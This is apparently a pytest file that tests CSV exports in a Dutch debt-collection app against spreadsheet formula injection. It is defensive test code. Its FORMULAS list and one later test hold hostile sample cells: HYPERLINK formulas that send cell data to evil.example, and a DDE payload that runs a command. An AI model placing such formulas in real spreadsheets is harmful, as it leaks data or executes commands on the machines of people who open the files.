"""The CSV exports open in spreadsheets: no cell may run as a formula there (OWASP CSV injection)."""

from __future__ import annotations

import csv
import io
import re
import shutil
from pathlib import Path

import pytest

from incasso.staff.exports import LINK_COLUMNS, csv_text, spreadsheet_safe
from tests.support.site import PRIVACY_LEDGER, build_site

FORMULAS = [
    '=HYPERLINK("https://evil.example/?leak="&A2,"Klik")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+31 6 12345678",
    "-2+3",
    "=1+1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\u00a0@SUM(A1)",
    "\uff1d1+1",  # a full-width equals sign, which some spreadsheets take for "="
    "\uff20SUM(A1)",
]
PLAIN = ["Jansen B.V.", "12.50", "-12.50", "0.00", "1250", "a=b", "", "https://betalen.voorbeeld.nl/s/abc/", "O'Brien"]


@pytest.mark.parametrize("cell", FORMULAS, ids=repr)
def test_a_cell_a_spreadsheet_would_run_gets_a_leading_quote(cell):
    assert spreadsheet_safe(cell) == "'" + cell


@pytest.mark.parametrize("cell", PLAIN, ids=repr)
def test_text_and_numbers_stay_as_they_are(cell):
    assert spreadsheet_safe(cell) == cell


def test_every_cell_of_an_export_is_made_safe_and_read_back_whole():
    rows = [dict.fromkeys(LINK_COLUMNS, "") | {"id": "X-1", "name": FORMULAS[0], "total_due": "-12.50"}]
    (read,) = csv.DictReader(io.StringIO(csv_text(LINK_COLUMNS, rows)))
    assert read["name"] == "'" + FORMULAS[0] and read["total_due"] == "-12.50" and read["id"] == "X-1"


def test_a_formula_in_the_ledger_reaches_links_csv_as_text(tmp_path):
    ledger = Path(shutil.copytree(PRIVACY_LEDGER, tmp_path / "ledger"))
    debtor = ledger / "debtors" / "P-001.yaml"
    name = '=HYPERLINK("https://evil.example/?"&B3,"Betaal hier")'
    debtor.write_text(
        debtor.read_text(encoding="utf-8").replace("name: Annelies Kraaijeveld", f"name: '{name}'"), encoding="utf-8"
    )
    site = build_site(tmp_path, ledger=ledger)
    assert site.exit_code == 0
    with (site.internal / "links.csv").open(encoding="utf-8", newline="") as f:
        rows = {row["id"]: row for row in csv.DictReader(f)}
    assert rows["P-001"]["name"] == "'" + name
    assert all(re.fullmatch(r"\d+\.\d\d", rows["P-001"][column]) for column in ("total_due", "amount_to_pay"))
    assert all(not cell.startswith(("=", "+", "-", "@")) for row in rows.values() for cell in row.values())
